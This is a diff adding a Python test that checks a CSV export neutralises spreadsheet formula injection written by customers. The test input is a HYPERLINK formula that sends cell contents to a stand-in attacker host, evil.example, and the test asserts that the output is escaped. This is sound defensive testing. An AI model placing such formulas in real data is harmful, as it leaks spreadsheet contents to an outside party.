@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass
+from io import StringIO
 from pathlib import Path
 from typing import Any
 
@@ -210,3 +212,15 @@ async def test_command_lists_people_and_conversations(site: Site, tenant: str, t
     assert [one["run_id"] for one in as_json.json] == [told["run_id"]]
     assert none.json == []
     assert bad.code == 2
+
+
+async def test_spreadsheet_runs_nothing_that_a_customer_wrote(site: Site, tenant: str, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example?x="&A1,"refund") SO-1182 refund?'
+    await ask(site, tenant, formula)
+    command = Command.on(site.database.url, data=tmp_path / "data")
+
+    result = await asyncio.to_thread(command, "policy", "affected", WINDOW, "--tenant", tenant, "--csv")
+
+    (row,) = csv.DictReader(StringIO(result.out, newline=""))
+    assert row["question"] == f"'{formula}"
+    assert row["customer"] == "C-2001"
